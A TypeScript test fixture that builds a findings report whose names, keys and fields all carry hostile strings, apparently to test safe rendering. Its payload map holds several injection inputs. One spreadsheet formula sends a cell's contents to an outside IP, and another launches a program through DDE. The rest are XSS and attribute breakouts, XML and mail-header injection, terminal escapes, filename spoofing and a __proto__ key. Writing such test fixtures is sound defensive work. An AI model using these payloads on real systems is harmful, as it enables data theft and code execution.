/** A report whose keys and names are meant to do harm wherever they are shown. */
import type { Report } from '../../src/model/report.ts';
import { madeFinding, madeReport, OWNERS } from './report.ts';

/** What lies in a key or a name → what it is after. */
export const HOSTILE: Readonly<Record<string, string>> = {
  '=HYPERLINK("http://203.0.113.9/?"&A1,"open")': 'a formula',
  "＝cmd|' /C calc'!A0": 'a formula in full width',
  '\t@SUM(1+1)*cmd': 'a formula behind a tab',
  '<script>alert(1)</script>': 'a script',
  '"><img src=x onerror=alert(1)>': 'an attribute that ends',
  ']]><failure message="x"/>&amp;': 'markup of XML',
  'lands\r\nBcc: everyone@example.org\r\n\r\nhello': 'a mail header',
  '\u001b]0;owned\u0007\u001b[2J': 'an escape of a terminal',
  'report\u202efdp.exe\u0000\ufffe\ud800': 'what no text should hold',
  __proto__: 'a key of every object',
};

/** One finding whose asset, slice, department, evidence and sample place all say it. */
export function hostileReport(text: string): Report {
  const finding = madeFinding({
    id: 'F-0123456789ab',
    owner: { ...OWNERS.parks, name: text },
    provider: 's3',
    name: text,
    severity: 'critical',
    people: [3, 9],
    slice: text,
    because: [text],
    reasons: [{ code: 's3.policy.allow', params: { statement: text, resources: text } }],
    disagreement: text,
    remedy: [{ purpose: 'close', what: text, command: text }],
  });
  const samples = [{ detector: 'hk.hkid', masked: 'A12****(*)', place: text, ref: 'K-1' }];
  const report = madeReport({
    findings: [{ ...finding, samples, ownerReason: text }],
    gaps: [{ code: 'denied', asset: text, what: text, detail: text }],
  });
  const departments = report.departments.map((each) =>
    each.id === 'parks' ? { ...each, name: text, contact: text } : each,
  );
  return { ...report, departments };
}
